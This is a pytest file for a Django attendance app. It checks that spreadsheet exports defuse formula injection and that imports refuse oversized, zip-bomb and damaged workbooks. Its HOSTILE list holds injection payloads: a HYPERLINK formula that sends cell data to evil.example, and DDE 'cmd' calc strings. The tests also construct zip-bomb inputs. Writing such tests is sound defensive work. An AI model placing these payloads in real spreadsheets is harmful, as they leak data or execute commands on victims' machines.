"""Spreadsheets in and out (issue #10, items 8 and 9).

Item 8: text a user typed (a teacher's name from a roster import, a project or session title, a
school's name, an audit summary) never becomes a live formula in any xlsx or CSV export: every
export goes through core.xlsx, which prefixes such text with an apostrophe and stores it as text.

Item 9: a roster file declaring ``A1:XFD1048576`` and thousands of rows is read in streaming mode
(memory bounded), and files over the row, size or unpacked-size caps are refused with a Chinese
message, importing nothing.
"""
import csv
import datetime
import io
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook

from attendance import idcard
from attendance.models import Attendance, Enrolment, Session, Teacher
from attendance.roster import column_titles, roster_parse
from audit.models import AuditEvent
from core import xlsx
from core.xlsx import FORMULA_START, SpreadsheetError, read_rows, safe_value
from plans.models import Document
from tests.attendance_helpers import make_project, make_teacher
from tests.job_helpers import job_result, post_query

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- helpers -------------------------------------------------------------------------------

def workbook_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))  # formulas kept as formulas (data_only=False)


def assert_no_live_formula(response, *expected):
    """No cell is a formula or text a spreadsheet would run; each hostile text is there, defused."""
    values = []
    for sheet in workbook_of(response).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
                    values.append(cell.value)
    for text in expected:
        # XML reads a carriage return back as a line feed.
        assert any(("'" + text).replace("\r", "\n") in value.replace("\r", "\n") for value in values), text


def id_number(serial: int) -> str:
    birth = datetime.date(1970, 1, 1) + datetime.timedelta(days=serial)
    first17 = f"410523{birth:%Y%m%d}{serial % 1000:03d}"
    return first17 + idcard.check_character(first17)


def roster_file(rows, *, name="花名册.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(column_titles())
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # typed as text (or after an apostrophe), as a hostile user would
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue(), content_type=XLSX)


def teacher_row(serial: int, name=None) -> list:
    return [name or f"教师{serial}", None, None, id_number(serial), None, "语文", None, None]


def declare_dimension(content: bytes, ref="A1:XFD1048576") -> bytes:
    """The same workbook with its first sheet declaring another (huge) used range."""
    import re

    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), data)
                assert count == 1
            target.writestr(item, data)
    return out.getvalue()


def import_roster(client, upload):
    return client.post(reverse("attendance:teachers_import"), {"file": upload})


# --- the one helper ------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_safe_value_defuses_every_formula_start(text):
    assert safe_value(text) == "'" + text


def test_safe_value_keeps_ordinary_values_and_drops_unwritable_characters():
    assert safe_value("王老师") == "王老师"
    assert safe_value("a=b") == "a=b"
    assert safe_value(-3) == -3 and safe_value(Decimal("1.5")) == Decimal("1.5") and safe_value(None) is None
    assert safe_value(datetime.date(2024, 3, 1)) == datetime.date(2024, 3, 1)
    assert safe_value("铃\x07声") == "铃声"          # openpyxl refuses control characters (a 500 before)
    assert safe_value("\x01=1+1") == "'=1+1"          # dropping them cannot uncover a formula


def test_a_formula_cell_in_a_workbook_is_defused_on_the_way_out():
    workbook = Workbook()
    workbook.active.append(["=1+2", "fine", 3])
    sheet = load_workbook(io.BytesIO(xlsx.xlsx_bytes(workbook))).active
    assert [cell.value for cell in sheet[1]] == ["'=1+2", "fine", 3]
    assert sheet["A1"].data_type == "s"


# --- every export (item 8) ------------------------------------------------------------------------

def test_roster_import_then_export_never_yields_a_formula(world, client_for):
    client = client_for(world.school_officer)
    response = import_roster(client, roster_file([teacher_row(n + 1, name) for n, name in enumerate(HOSTILE)]))
    assert response.status_code == 302
    assert set(Teacher.objects.values_list("name", flat=True)) == {name.strip() for name in HOSTILE}

    assert_no_live_formula(client.get(reverse("attendance:teachers_export")), *HOSTILE[:4])
    assert_no_live_formula(client.get(reverse("attendance:teachers_template")))


def test_roster_export_with_a_control_character_in_a_name_is_not_a_500(world, client_for):
    make_teacher(world.school, name="铃\x07声")
    response = client_for(world.school_officer).get(reverse("attendance:teachers_export"))
    assert_no_live_formula(response)
    assert "铃声" in [c.value for c in workbook_of(response).active["A"]]


@pytest.fixture
def hostile_school(world):
    """Teachers with hostile names at the school, a project and sessions with hostile titles,
    marks for all of them, and a hostile school name."""
    world.other_school.name = HOSTILE[1]
    world.other_school.save()
    teachers = [make_teacher(world.school, name=name) for name in HOSTILE]
    project = make_project(world, name=HOSTILE[0], year=2024, month=9)
    plan = Document.objects.create(kind="school_plan", status="approved", organisation=world.school, year=2024,
                                   title=HOSTILE[3], created_by=world.school_officer)
    sessions = [
        Session.objects.create(project=project, organisation=project.organiser, title=HOSTILE[2],
                               date=datetime.date(2024, 9, 20), start_time=datetime.time(9),
                               end_time=datetime.time(12), hours=Decimal(3)),
        Session.objects.create(school_plan=plan, organisation=world.school, title=HOSTILE[3],
                               date=datetime.date(2024, 10, 8), start_time=datetime.time(9),
                               end_time=datetime.time(12), hours=Decimal(3)),
    ]
    for teacher in teachers:
        Enrolment.objects.create(project=project, teacher=teacher, status="confirmed",
                                 created_by=world.training_officer)
        for session in sessions:
            Attendance.objects.create(session=session, teacher=teacher, status="present", source="roll_call",
                                      marked_by=world.school_officer)
    return {"teachers": teachers, "project": project}


def test_attendance_report_exports_never_yield_a_formula(world, client_for, hostile_school):
    school = client_for(world.school_officer)
    assert_no_live_formula(school.get(reverse("attendance:report_school"), {"year": 2024, "format": "xlsx"}),
                           *HOSTILE[:4])
    trainer = client_for(world.training_officer)
    assert_no_live_formula(trainer.get(reverse("attendance:report_project", args=[hostile_school["project"].pk]),
                                       {"format": "xlsx"}), *HOSTILE[:4])
    teacher = hostile_school["teachers"][0]
    assert_no_live_formula(school.get(reverse("attendance:report_teacher", args=[teacher.pk]),
                                      {"year": 2024, "format": "xlsx"}), HOSTILE[0], HOSTILE[2], HOSTILE[3])
    bureau = client_for(world.bureau_officer)
    assert_no_live_formula(job_result(bureau, post_query(bureau, reverse("attendance:report_district"),
                                                         {"year": 2024, "format": "xlsx"})),
                           HOSTILE[1])


def test_credit_exports_never_yield_a_formula(world, client_for, hostile_school):
    call_command("loaddata", "credit_rules", verbosity=0)
    world.district.credit_rule_family = "hunan"
    world.district.save()
    make_teacher(world.other_school, name="初中教师")
    school = client_for(world.school_officer)
    assert_no_live_formula(school.get(reverse("credits:school_credits"), {"year": 2024, "format": "xlsx"}),
                           *HOSTILE[:4])
    bureau = client_for(world.bureau_officer)
    assert_no_live_formula(job_result(bureau, post_query(bureau, reverse("credits:district_credits"),
                                                         {"year": 2024, "format": "xlsx"})),
                           HOSTILE[1])


def test_schedule_export_never_yields_a_formula(world, client_for):
    project = make_project(world, name=HOSTILE[0], year=2024, month=3)
    project.location = HOSTILE[1]
    project.target_group = HOSTILE[2]
    project.save()
    response = client_for(world.training_officer).get(reverse("schedule:export", args=["xlsx"]), {"year": 2024})
    assert_no_live_formula(response, HOSTILE[0], HOSTILE[1])


def test_audit_exports_never_yield_a_formula(world, client_for):
    for n, text in enumerate(HOSTILE):
        AuditEvent.objects.create(action="login.failed", summary=text, district=world.district,
                                  user_agent=HOSTILE[0], object_type="plans.document", object_id=str(n))
    client = client_for(world.bureau_officer)
    assert_no_live_formula(job_result(client, post_query(client, reverse("audit:export", args=["xlsx"]))), *HOSTILE)

    response = job_result(client, post_query(client, reverse("audit:export", args=["csv"])))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert {"'" + text for text in HOSTILE} <= {row[5] for row in rows[1:]}


# --- imports (item 9) -----------------------------------------------------------------------------

def test_a_huge_declared_range_is_read_in_bounded_memory(world, client_for):
    """1,000 rows declaring A1:XFD1048576 padded every row to 16,384 cells (about 130 MB here;
    8,000 rows took a server from 212 MB to 1.19 GB). Streamed, the import stays small."""
    upload = roster_file([teacher_row(n) for n in range(1, 1001)])
    upload = SimpleUploadedFile(upload.name, declare_dimension(upload.read()), content_type=XLSX)
    assert upload.size < 100 * 1024
    tracemalloc.start()
    try:
        teachers, errors = roster_parse(organisation=world.school, file=upload)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(teachers) == 1000 and not errors
    assert peak < 30 * 1024 * 1024, peak

    upload.seek(0)
    rows = read_rows(upload, columns=len(column_titles()))
    assert len(rows) == 1000 and rows[0][0] == 2 and rows[-1][0] == 1001
    assert all(len(values) == 8 for _number, values in rows)

    upload.seek(0)
    assert import_roster(client_for(world.school_officer), upload).status_code == 302
    assert Teacher.objects.count() == 1000


def test_more_rows_than_the_cap_are_refused_and_nothing_is_imported(world, client_for, settings):
    settings.SPREADSHEET_IMPORT_MAX_ROWS = 20
    client = client_for(world.school_officer)
    too_many = roster_file([teacher_row(n) for n in range(1, 22)])
    response = import_roster(client, SimpleUploadedFile(too_many.name, declare_dimension(too_many.read()),
                                                        content_type=XLSX))
    assert response.status_code == 200
    message = _("The file has more than %(count)s rows: split it into several files.") % {"count": 20}
    assert message in response.content.decode()
    assert not Teacher.objects.exists()

    # Empty rows in between do not count; exactly the cap is fine.
    rows = [teacher_row(n) for n in range(1, 21)]
    rows[10:10] = [[None] * 8] * 5
    assert import_roster(client, roster_file(rows)).status_code == 302
    assert Teacher.objects.count() == 20


def test_the_row_cap_defaults_to_a_setting_of_five_thousand(settings):
    assert settings.SPREADSHEET_IMPORT_MAX_ROWS == 5000
    assert xlsx.max_rows_setting() == 5000


def test_a_file_over_the_size_cap_is_refused():
    upload = roster_file([teacher_row(1)])
    with pytest.raises(SpreadsheetError) as refused:
        read_rows(upload, max_bytes=1024, columns=8)
    assert str(refused.value) == _("The file may be at most %(size)s MB.") % {"size": "0.00"}


def test_a_zip_bomb_is_refused_before_it_is_unpacked(world, client_for):
    """A few hundred KB that unpack to 110 MB of shared strings."""
    out = io.BytesIO()
    with zipfile.ZipFile(roster_file([teacher_row(1)]), "r") as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/sharedStrings.xml":
                target.writestr(item, source.read(item.filename))
        with target.open("xl/sharedStrings.xml", "w") as strings:
            chunk = b" " * (1024 * 1024)
            for _chunk in range(110):
                strings.write(chunk)
    assert len(out.getvalue()) < 1024 * 1024
    response = import_roster(client_for(world.school_officer),
                             SimpleUploadedFile("花名册.xlsx", out.getvalue(), content_type=XLSX))
    assert response.status_code == 200
    assert _("The file is too large once unpacked: save it again from Excel or WPS, "
             "without empty formatted rows and columns.") in response.content.decode()
    assert not Teacher.objects.exists()


def test_a_damaged_workbook_is_refused_with_a_message(world, client_for):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<not-really/>")
        archive.writestr("xl/workbook.xml", "<<<")
    response = import_roster(client_for(world.school_officer),
                             SimpleUploadedFile("花名册.xlsx", out.getvalue(), content_type=XLSX))
    assert response.status_code == 200
    assert _("The file is not an Excel (.xlsx) workbook.") in response.content.decode()
    assert not Teacher.objects.exists()
